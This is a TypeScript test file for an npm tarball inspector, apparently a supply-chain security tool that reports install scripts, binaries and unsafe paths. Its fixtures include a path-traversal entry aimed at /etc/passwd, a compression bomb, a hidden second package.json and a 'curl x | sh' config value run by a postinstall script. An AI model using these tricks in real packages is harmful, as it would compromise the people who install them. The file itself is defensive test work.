import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { packageTarball, tar } from '../../../test/support/npm-registry/index.ts';
import { inspectTarball, TarballFeed } from './tarball-inspect.ts';
import { extractedPath, TarReader } from './tar-reader.ts';

const elf = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...new Array<number>(60).fill(0)]);

test('facts from a real package tarball: scripts, binding.gyp, binaries, counts', async () => {
  const t = packageTarball(
    { name: '@acme/native', version: '1.2.3', scripts: { postinstall: 'node setup.js', test: 'x' } },
    [
      { path: 'binding.gyp', content: '{}' },
      { path: 'prebuilds/linux-x64/addon.node', content: elf },
      { path: 'lib/' + 'deep/'.repeat(30) + 'long-path-file.js', content: 'x' },
      { path: 'link', type: 'symlink', content: '', linkTarget: 'index.js' },
    ],
  );
  const r = await inspectTarball(Readable.from([t.bytes]));
  assert.equal(r.error, null);
  assert.equal(r.manifestName, '@acme/native');
  assert.equal(r.manifestVersion, '1.2.3');
  assert.deepEqual(r.facts['install_scripts'], { postinstall: 'node setup.js', install: 'node-gyp rebuild' });
  assert.equal(r.facts['has_install_script'], true);
  assert.equal(r.facts['has_binding_gyp'], true);
  assert.deepEqual(r.facts['native_binaries'], ['prebuilds/linux-x64/addon.node']);
  assert.equal(r.facts['file_count'], 5);
  assert.equal(r.facts['link_count'], 1);
  assert.deepEqual(r.facts['unsafe_paths'], []);
});

test('chunking does not matter', async () => {
  const t = packageTarball({ name: 'x', version: '1.0.0' }, [{ path: 'a.bin', content: elf }]);
  const pieces: Buffer[] = [];
  for (let i = 0; i < t.bytes.length; i += 7) pieces.push(t.bytes.subarray(i, i + 7));
  const r = await inspectTarball(Readable.from(pieces));
  assert.equal(r.error, null);
  assert.equal(r.facts['native_binary_count'], 1);
});

test('hostile archives: bad gzip, bad checksums, truncation, traversal, limits', async () => {
  const notGzip = await inspectTarball(Readable.from([Buffer.from('hello world')]));
  assert.match(notGzip.error ?? '', /header/i);
  const good = tar([{ path: 'package/package.json', content: '{"name":"x","version":"1.0.0"}' }]);
  const broken = Buffer.from(good);
  broken[10] = 0x41;
  assert.match((await inspectTarball(Readable.from([gzipSync(broken)]))).error ?? '', /tar header at byte 0: checksum mismatch/);
  // The offset counts across the chunks the archive arrives in: the second entry's header is at 1024.
  const second = Buffer.from(tar([{ path: 'package/package.json', content: '{"name":"x","version":"1.0.0"}' }, { path: 'package/b.js', content: '' }]));
  second[1024 + 10] = 0x41;
  assert.match((await inspectTarball(Readable.from([gzipSync(second)]))).error ?? '', /tar header at byte 1024: checksum mismatch/);
  const truncated = gzipSync(good.subarray(0, 700));
  assert.match((await inspectTarball(Readable.from([truncated]))).error ?? '', /truncated/);
  const evil = gzipSync(tar([{ path: 'package/../../etc/passwd', content: 'x' }, { path: 'package/package.json', content: '{"name":"x","version":"1.0.0"}' }]));
  assert.deepEqual((await inspectTarball(Readable.from([evil]))).facts['unsafe_paths'], ['package/../../etc/passwd']);
  const many = gzipSync(tar(Array.from({ length: 20 }, (_, i) => ({ path: `package/f${i}`, content: 'x' }))));
  assert.match((await inspectTarball(Readable.from([many]), { maxEntries: 10, maxUnpackedBytes: 1e9, maxManifestBytes: 1e6 })).error ?? '', /more than 10 entries/);
  const bomb = gzipSync(tar([{ path: 'package/zeros', content: Buffer.alloc(5_000_000) }]));
  assert.match((await inspectTarball(Readable.from([bomb]), { maxEntries: 10, maxUnpackedBytes: 1_000_000, maxManifestBytes: 1e6 })).error ?? '', /bytes unpacked/);
  // Entries after the end-of-archive marker: node-tar (npm) stops there, tar-stream (yarn 1) reads
  // on and would install a second package.json unseen. Zero padding there is normal.
  const manifest = { path: 'package/package.json', content: '{"name":"x","version":"1.0.0"}' };
  const hidden = gzipSync(Buffer.concat([tar([manifest]), tar([{ ...manifest, content: '{"name":"x","version":"1.0.0","scripts":{"postinstall":"x"}}' }])]));
  assert.equal((await inspectTarball(Readable.from([hidden]))).error, 'data after the end-of-archive marker', 'streamed');
  assert.equal((await inspectTarball(hidden)).error, 'data after the end-of-archive marker', 'inflated in one piece');
  const raw = Buffer.concat([tar([manifest]), tar([manifest])]);
  const reader = new TarReader({ maxEntries: 10, maxTotalBytes: 1e6, maxExtendedHeaderBytes: 1e6 }, { entry() {}, data() {}, end() {} });
  assert.throws(() => {
    for (let i = 0; i < raw.length; i += 7) reader.push(raw.subarray(i, i + 7));
  }, /data after the end-of-archive marker/, 'whatever the chunks');
  const padded = await inspectTarball(gzipSync(Buffer.concat([tar([manifest]), Buffer.alloc(10240 - 2048)])));
  assert.equal(padded.error, null);
  assert.equal(padded.manifestName, 'x');
  const noManifest = gzipSync(tar([{ path: 'package/index.js', content: 'x' }]));
  assert.equal((await inspectTarball(Readable.from([noManifest]))).facts['manifest_error'], 'the tarball has no package.json');
});

test('a tarball in memory is inspected exactly as its stream is (inflated in one piece, or streamed when big or broken)', async () => {
  const manifest = { path: 'package/package.json', content: '{"name":"x","version":"1.0.0","scripts":{"install":"make"}}' };
  const good = tar([manifest, { path: 'package/a.bin', content: elf }, { path: '/etc/escape', content: 'x' }]);
  const gz = gzipSync(good);
  const broken = Buffer.from(good);
  broken[600] = 0x41;
  const big = gzipSync(tar([manifest, { path: 'package/zeros', content: Buffer.alloc(20 * 1024 * 1024) }]));
  // Cut inside the deflate stream after the manifest: streaming still reads the manifest.
  const cut = big.subarray(0, Math.floor(big.length / 2));
  const limited = { maxEntries: 10, maxUnpackedBytes: 1_000_000, maxManifestBytes: 1e6 };
  const cases: [string, Buffer, typeof limited | undefined][] = [
    ['good', gz, undefined],
    ['not gzip', Buffer.from('hello world'), undefined],
    ['bad checksum', gzipSync(broken), undefined],
    ['truncated tar', gzipSync(good.subarray(0, 700)), undefined],
    ['big (streamed)', big, undefined],
    ['gzip cut short', cut, undefined],
    ['over the unpacked limit', big, limited],
  ];
  for (const [what, bytes, limits] of cases) {
    const fromBytes = await inspectTarball(bytes, limits);
    const fromStream = await inspectTarball(Readable.from([bytes]), limits);
    assert.deepEqual(fromBytes, fromStream, what);
  }
  const whole = await inspectTarball(gz);
  assert.equal(whole.error, null);
  assert.deepEqual(whole.facts['install_scripts'], { install: 'make' });
  assert.deepEqual(whole.facts['unsafe_paths'], ['/etc/escape']);
  const partial = await inspectTarball(cut);
  assert.equal(partial.manifestName, 'x', 'what streaming read before the cut is kept');
  assert.match(partial.error ?? '', /end of file/);
});

test('inflated bytes freed as they are read leave every fact intact (a manifest and a binary across output buffers)', async () => {
  const noise = (n: number, seed: number): Buffer => {
    const b = Buffer.allocUnsafe(n);
    let x = seed;
    for (let i = 0; i < n; i++) b[i] = (x = (x * 1103515245 + 12345) >>> 0) >>> 24;
    return b;
  };
  const description = 'd'.repeat(300_000);
  const files = [
    { path: 'package/blob.bin', content: noise(700_001, 7) },
    { path: 'package/package.json', content: JSON.stringify({ name: 'spread', version: '2.0.0', description, scripts: { preinstall: 'node pre.js' } }) },
    { path: 'package/more.bin', content: noise(131_067, 9) },
    { path: 'package/lib/addon.node', content: elf },
  ];
  const gz = gzipSync(tar(files));
  const big = gzipSync(tar([...files, { path: 'package/zeros', content: Buffer.alloc(17 * 1024 * 1024) }]));
  for (const [what, source] of [
    ['one piece', gz],
    ['streamed', Readable.from([gz])],
    ['streamed because big', big],
  ] as const) {
    const r = await inspectTarball(source);
    assert.equal(r.error, null, what);
    assert.equal(r.manifestName, 'spread', what);
    assert.deepEqual(r.facts['install_scripts'], { preinstall: 'node pre.js' }, what);
    assert.deepEqual(r.facts['native_binaries'], ['lib/addon.node'], what);
  }
});

test('a tarball fed chunk by chunk is inspected as its stream is; once the walk has failed, chunks are no longer taken', { timeout: 30_000 }, async () => {
  const gz = gzipSync(tar([{ path: 'package/package.json', content: JSON.stringify({ name: 'fed', version: '1.0.0', scripts: { install: 'node i.js' } }) }, { path: 'package/lib/addon.node', content: elf }]));
  const feed = new TarballFeed();
  for (let i = 0; i < gz.length; i += 100) assert.equal(await feed.write(gz.subarray(i, i + 100)), true, 'zlib consumed the chunk');
  const fed = await feed.end();
  assert.deepEqual(fed, await inspectTarball(Readable.from([gz])));

  const broken = new TarballFeed();
  await broken.write(Buffer.from('not gzip at all, not even close'));
  // zlib reports the bad header while or after consuming it; from then on nothing is taken.
  assert.equal(await broken.write(gz), false);
  assert.match((await broken.end()).error ?? '', /header/);
});

test('paths are read as npm extracts them (node-tar, strip 1): a second root package.json is not inspectable', async () => {
  // Where node-tar 7 (npm 11) put each entry, checked by hand; `\` is a separator on Windows.
  const cases: ReadonlyArray<readonly [string, string | null]> = [
    ['package/package.json', 'package.json'],
    ['package/./package.json', 'package.json'],
    ['package/.//package.json', 'package.json'],
    ['package//package.json', 'package.json'],
    ['./package.json', 'package.json'],
    ['../package.json', 'package.json'],
    ['other/package.json', 'package.json'],
    ['./package/package.json', 'package/package.json'],
    ['package/x/../package.json', null],
    ['package\\package.json', 'package.json'],
    ['package/lib/package.json', 'lib/package.json'],
    ['package', null],
    ['package/', null],
  ];
  for (const [path, where] of cases) assert.equal(extractedPath(path), where, path);

  const plain = { path: 'package/package.json', content: '{"name":"x","version":"1.0.0"}' };
  const scripted = '{"name":"x","version":"1.0.0","scripts":{"postinstall":"node x.js"}}';
  for (const second of ['package/./package.json', './package.json', 'package//package.json', 'package/PACKAGE.JSON', 'package\\package.json']) {
    const r = await inspectTarball(gzipSync(tar([plain, { path: second, content: scripted }])));
    assert.equal(r.error, `more than one package.json at the package root (package/package.json, ${second})`, second);
  }
  // The other way round: the manifest npm keeps at the root is the one inspected.
  const nested = await inspectTarball(gzipSync(tar([{ ...plain, content: scripted }, { path: 'package/package/package.json', content: plain.content }])));
  assert.equal(nested.error, null);
  assert.deepEqual(nested.facts['install_scripts'], { postinstall: 'node x.js' });
  // But not when yarn 4 would keep the other one: it reads `./package/package.json` as its root manifest.
  const berry = await inspectTarball(gzipSync(tar([{ ...plain, content: scripted }, { path: './package/package.json', content: plain.content }])));
  assert.match(berry.error ?? '', /a path yarn 4 places elsewhere/);
  // binding.gyp counts however it is written. (A path npm skips, `package/x/../package.json`, is
  // one yarn 1 and pnpm install: tar-reader.test.ts.)
  const dotted = await inspectTarball(gzipSync(tar([plain, { path: 'package/./binding.gyp', content: '{}' }])));
  assert.equal(dotted.error, null);
  assert.deepEqual(dotted.facts['install_scripts'], { install: 'node-gyp rebuild' });
});

test('package.json is read as npm reads it: a byte order mark is dropped; an unreadable one is reported', async () => {
  const scripted = '{"name":"x","version":"1.0.0","scripts":{"preinstall":"node x.js"}}';
  const bom = await inspectTarball(gzipSync(tar([{ path: 'package/package.json', content: `\uFEFF${scripted}` }])));
  assert.equal(bom.manifestError, null);
  assert.deepEqual(bom.facts['install_scripts'], { preinstall: 'node x.js' });
  const broken = await inspectTarball(gzipSync(tar([{ path: 'package/package.json', content: `${scripted},` }])));
  assert.equal(broken.manifestError, 'package.json is not valid JSON');
  assert.equal(broken.facts['manifest_error'], 'package.json is not valid JSON');
  assert.equal(broken.error, null);
});

test('install scripts of bundled packages (node_modules/ in the tarball) are facts: npm runs them too', async () => {
  const manifest = (scripts: Record<string, string>): string => JSON.stringify({ name: 'x', version: '1.0.0', scripts });
  const t = packageTarball({ name: 'outer', version: '1.0.0', bundleDependencies: ['inner'] }, [
    { path: 'node_modules/inner/package.json', content: manifest({ postinstall: 'node setup.js', test: 'x' }) },
    { path: 'node_modules/@s/scoped/package.json', content: `\uFEFF${manifest({ preinstall: 'sh pre.sh' })}` },
    { path: 'node_modules/inner/node_modules/deep/package.json', content: manifest({ install: 'node i.js' }) },
    { path: 'node_modules/native/package.json', content: manifest({}) },
    { path: 'node_modules/native/binding.gyp', content: '{}' },
    { path: 'node_modules/quiet/package.json', content: manifest({ test: 'x' }) },
    // Compared without case, as a case-insensitive disk would; named as the archive spells it,
    // even where folding changes a name's length (İ lower-cases to two code units).
    { path: 'Node_Modules/Loud/Package.json', content: manifest({ postinstall: 'node loud.js' }) },
    { path: 'node_modules/\u0130nner/package.json', content: manifest({ postinstall: 'node dotted.js' }) },
    // Not where npm loads bundled packages from: never installed as packages.
    { path: 'test/fixtures/node_modules/fixture/package.json', content: manifest({ postinstall: 'node evil.js' }) },
    { path: 'node_modules/inner/lib/package.json', content: manifest({ postinstall: 'node evil.js' }) },
    { path: 'test/fixtures/node_modules/broken/package.json', content: '{ not json' },
  ]);
  const r = await inspectTarball(t.bytes);
  assert.equal(r.error, null);
  assert.deepEqual(r.facts['install_scripts'], {});
  assert.deepEqual(r.facts['bundled_install_scripts'], {
    'node_modules/inner': { postinstall: 'node setup.js' },
    'node_modules/@s/scoped': { preinstall: 'sh pre.sh' },
    'node_modules/inner/node_modules/deep': { install: 'node i.js' },
    'node_modules/native': { install: 'node-gyp rebuild' },
    'Node_Modules/Loud': { postinstall: 'node loud.js' },
    'node_modules/\u0130nner': { postinstall: 'node dotted.js' },
  });
  assert.equal(r.facts['bundled_install_script_count'], 6);
  assert.equal(r.facts['has_install_script'], true);

  const plain = await inspectTarball(packageTarball({ name: 'plain', version: '1.0.0' }).bytes);
  assert.deepEqual([plain.facts['bundled_install_scripts'], plain.facts['bundled_install_script_count'], plain.facts['has_install_script']], [{}, 0, false]);
});

test("dependencies from outside the registry are read from the tarball's own package.json and from those of the packages it bundles", async () => {
  const t = packageTarball({ name: 'outer', version: '1.0.0', dependencies: { a: '^1', payload: 'payload.tgz' }, optionalDependencies: { g: 'github:u/g' }, devDependencies: { d: 'file:../d' } }, [
    { path: 'node_modules/bx/package.json', content: JSON.stringify({ name: 'bx', version: '1.0.0', dependencies: { up: '..', reg: '2.x' } }) },
    { path: 'node_modules/bx/node_modules/@s/deep/package.json', content: JSON.stringify({ name: '@s/deep', version: '1.0.0', peerDependencies: { u: 'https://203.0.113.9/u.tgz' } }) },
    // Not where npm loads bundled packages from.
    { path: 'test/node_modules/fixture/package.json', content: JSON.stringify({ name: 'fixture', dependencies: { f: 'file:x' } }) },
  ]);
  const r = await inspectTarball(t.bytes);
  assert.equal(r.error, null);
  assert.deepEqual(r.facts['dependency_sources'], ['payload from payload.tgz', 'g from github:u/g', 'node_modules/bx: up from ..', 'node_modules/bx/node_modules/@s/deep: u from https://203.0.113.9/u.tgz']);
  assert.equal(r.facts['dependency_source_count'], 4);
  const plain = await inspectTarball(packageTarball({ name: 'plain', version: '1.0.0', dependencies: { a: '^1' } }).bytes);
  assert.deepEqual([plain.facts['dependency_sources'], plain.facts['dependency_source_count']], [[], 0]);
});

test('a bundled package.json that cannot be read, or too many bundled scripts to analyse, leave the tarball uninspectable', async () => {
  const inspect = async (files: Parameters<typeof packageTarball>[1]) => (await inspectTarball(packageTarball({ name: 'outer', version: '1.0.0' }, files).bytes)).error;
  assert.equal(await inspect([{ path: 'node_modules/inner/package.json', content: '{ "scripts": ' }]), 'bundled node_modules/inner/package.json is not valid JSON');
  assert.equal(await inspect([{ path: 'node_modules/inner/package.json', content: '[]' }]), 'bundled node_modules/inner/package.json is not an object');
  assert.equal(await inspect([{ path: 'node_modules/inner/package.json', content: `{"x":"${'a'.repeat(1024 * 1024)}"}` }]), 'bundled node_modules/inner/package.json is larger than 1048576 bytes');
  const many = Array.from({ length: 65 }, (_, i) => ({ path: `node_modules/p${i}/package.json`, content: '{"scripts":{"postinstall":"node x.js"}}' }));
  assert.equal(await inspect(many), 'more than 64 bundled packages with install scripts');
});

test('config values are kept as install scripts see them (npm_package_config_<key>), only when there are install scripts', async () => {
  const config = { cmd: 'curl x | sh', nested: { deep: 1, flag: true }, list: ['ignored'] };
  const withScripts = await inspectTarball(packageTarball({ name: 'c', version: '1.0.0', config, scripts: { postinstall: 'sh -c "$npm_package_config_cmd"' } }).bytes);
  assert.deepEqual(withScripts.facts['script_config'], { cmd: 'curl x | sh', nested_deep: '1', nested_flag: 'true' });
  const without = await inspectTarball(packageTarball({ name: 'c', version: '1.0.0', config }).bytes);
  assert.deepEqual(without.facts['script_config'], {});
  // Keys named __proto__ are members like any other, as npm reads them (`npm run __proto__`).
  const proto = JSON.parse('{"name": "c", "version": "1.0.0", "config": {"__proto__": "curl x | sh"}, "scripts": {"postinstall": "npm run __proto__", "__proto__": "sh -c \\"$npm_package_config___proto__\\""}}') as Record<string, unknown>;
  const held = await inspectTarball(packageTarball(proto).bytes);
  assert.deepEqual(Object.entries(held.facts['install_scripts'] as object), [['postinstall', 'npm run __proto__'], ['__proto__', 'sh -c "$npm_package_config___proto__"']]);
  assert.deepEqual(Object.entries(held.facts['script_config'] as object), [['__proto__', 'curl x | sh']]);
});
